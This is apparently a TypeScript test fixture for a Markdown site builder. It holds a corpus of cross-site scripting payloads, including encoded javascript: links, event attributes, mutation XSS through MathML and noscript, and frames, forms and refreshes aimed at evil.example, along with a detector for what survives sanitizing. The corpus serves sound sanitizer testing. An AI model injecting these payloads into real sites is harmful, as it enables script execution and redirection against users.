/**
 * A corpus of hostile Markdown: every way we know of to get script, a refresh, a frame, a form or
 * a style onto a page through a writer's text, in each spelling and nesting. Shared by the unit
 * tests of the build's check (markdown-check.test.ts) and of the renderer's sanitizer
 * (markdown-sanitizer.test.ts), and by the build test that builds a page of it
 * (tests/build/hostile-markdown.test.ts). `leftOvers` says what of it a rendered page still holds.
 */
import { type DefaultTreeAdapterMap, parseFragment } from 'parse5';

/** One case: what a writer could write. Each is closed, so that none runs into the next. */
export interface HostileCase {
  name: string;
  markdown: string;
}

export const hostileCases: HostileCase[] = [
  // The four that passed the build's check before.
  { name: 'a closing tag before a script', markdown: '</div><script>alert(1)</script>' },
  {
    name: 'a closing tag before a refresh to another site',
    markdown: '</p><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  },
  {
    name: 'a script in a table cell',
    markdown: '| Kolom | Andere |\n| --- | --- |\n| <script>alert(1)</script> | tekst |',
  },
  { name: 'a javascript: link behind an entity', markdown: '[klik](javascript&#58;alert(1))' },
  // Script, however written.
  { name: 'a script', markdown: '<script>alert(1)</script>' },
  { name: 'a script in capitals from elsewhere', markdown: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>' },
  { name: 'an event attribute on a picture', markdown: 'Tekst <img src=x onerror=alert(1)> tekst' },
  { name: 'an event attribute in emphasis', markdown: '*<span onmouseover="alert(1)">tekst</span>*' },
  { name: 'a script in a list item', markdown: '- punt <script>alert(1)</script>' },
  { name: 'an event attribute in a quote', markdown: '> <img src=x onerror=alert(1)>' },
  { name: 'a script in a heading', markdown: '## Kop <script>alert(1)</script>' },
  { name: 'a comment hiding a script', markdown: '<!-- opmerking --><script>alert(1)</script>' },
  { name: 'a toggle event', markdown: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'an autofocus event', markdown: '<input autofocus onfocus=alert(1)>' },
  { name: 'a script in SVG', markdown: '<svg><script>alert(1)</script></svg>' },
  { name: 'a load event on SVG', markdown: '<svg onload=alert(1)></svg>' },
  {
    name: 'mutation XSS through MathML',
    markdown: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  {
    name: 'mutation XSS through noscript',
    markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  { name: 'a script in a textarea', markdown: '<textarea><script>alert(1)</script></textarea>' },
  // Script links, however written.
  { name: 'a raw javascript: link', markdown: '<a href="javascript:alert(1)">klik</a>' },
  { name: 'a javascript: link in mixed case', markdown: '[klik](JaVaScRiPt:alert(1))' },
  { name: 'a javascript: link with a tab entity', markdown: '[klik](java&#x09;script:alert(1))' },
  { name: 'a javascript: link with a newline entity', markdown: '[klik](java&#10;script:alert(1))' },
  { name: 'a javascript: link in entities', markdown: '[klik](&#106;&#x61;vascript&colon;alert(1))' },
  { name: 'a javascript: link in angle brackets', markdown: '[klik](<javascript:alert(1)>)' },
  { name: 'a javascript: link as a reference', markdown: '[klik][doel]\n\n[doel]: javascript:alert(1)' },
  { name: 'a javascript: autolink', markdown: '<javascript:alert(1)>' },
  { name: 'a javascript: link with a comment', markdown: '[klik](javascript://%0aalert(1))' },
  { name: 'a raw link with a control character', markdown: '<a href="&#14;javascript:alert(1)">klik</a>' },
  {
    name: 'a javascript: link around a picture',
    markdown: '[![beschrijving](https://evil.example/x.png)](javascript:alert(1))',
  },
  { name: 'a vbscript: link', markdown: '[klik](vbscript:msgbox(1))' },
  { name: 'a data: document as a link', markdown: '<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>' },
  { name: 'a data: picture', markdown: '![beschrijving](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  // Everything else that must not reach a page.
  { name: 'a frame', markdown: '<iframe src="https://evil.example/"></iframe>' },
  {
    name: 'an object and an embed',
    markdown: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  },
  { name: 'a style', markdown: '<style>body { display: none }</style>' },
  { name: 'a style attribute', markdown: '<p style="background: url(javascript:alert(1))">tekst</p>' },
  {
    name: 'a form that posts elsewhere',
    markdown: '<form action="https://evil.example/"><button formaction="javascript:alert(1)">Verstuur</button></form>',
  },
  { name: 'a base address', markdown: '<base href="https://evil.example/">' },
  { name: 'a style sheet from elsewhere', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
];

/** The Markdown text of a page of every case (below its front matter), with the line each starts on. */
export function hostilePage(firstLine = 1): { text: string; lines: Array<{ name: string; from: number; to: number }> } {
  let line = firstLine;
  const lines = hostileCases.map(({ name, markdown }) => {
    const from = line;
    const to = from + markdown.split('\n').length - 1;
    line = to + 2;
    return { name, from, to };
  });
  return { text: hostileCases.map(({ markdown }) => markdown).join('\n\n'), lines };
}

/** Elements that must never be on a page from a writer's text. */
const forbidden = new Set(
  'script style iframe frame frameset object embed applet meta link base form button input textarea select svg math template noscript'.split(
    ' ',
  ),
);

/** An address that runs code or smuggles a document in, as a browser reads it (it drops tabs, line breaks and leading controls). */
const unsafeAddress = (value: string) =>
  // eslint-disable-next-line no-control-regex
  /^(?:javascript|vbscript|data):/i.test(value.replace(/[\u0000-\u0020]/g, ''));

/** Attributes that hold addresses. */
const addressAttributes = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'poster',
  'background',
  'cite',
  'data',
]);

/**
 * What of the hostile cases a piece of HTML (a page's rendered Markdown) still holds: forbidden
 * elements (a disabled task-list checkbox excepted), event and style attributes, and addresses that
 * run code. An empty list is a clean page.
 */
export function leftOvers(html: string): string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterMap['childNode'] | DefaultTreeAdapterMap['documentFragment']) => {
    if ('tagName' in node) {
      const attributes = new Map(node.attrs.map(({ name, value }) => [name, value]));
      const checkbox = node.tagName === 'input' && attributes.get('type') === 'checkbox' && attributes.has('disabled');
      if (forbidden.has(node.tagName) && !checkbox) found.push(`<${node.tagName}>`);
      for (const [name, value] of attributes) {
        if (/^on/i.test(name) || name === 'style' || name === 'srcdoc' || name === 'http-equiv')
          found.push(`<${node.tagName} ${name}>`);
        if (addressAttributes.has(name) && unsafeAddress(value)) found.push(`<${node.tagName} ${name}="${value}">`);
      }
    }
    const children = 'content' in node ? node.content.childNodes : 'childNodes' in node ? node.childNodes : [];
    for (const child of children) visit(child);
  };
  visit(parseFragment(html));
  return found;
}
